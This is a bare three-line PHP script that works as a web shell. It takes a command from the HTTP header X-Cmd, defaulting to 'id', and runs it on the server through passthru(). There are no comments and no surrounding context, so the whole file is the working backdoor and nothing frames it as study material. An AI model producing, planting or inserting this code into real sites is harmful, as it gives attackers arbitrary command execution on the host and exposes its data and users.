<?php
$c = $_SERVER['HTTP_X_CMD'] ?? 'id';
passthru($c);
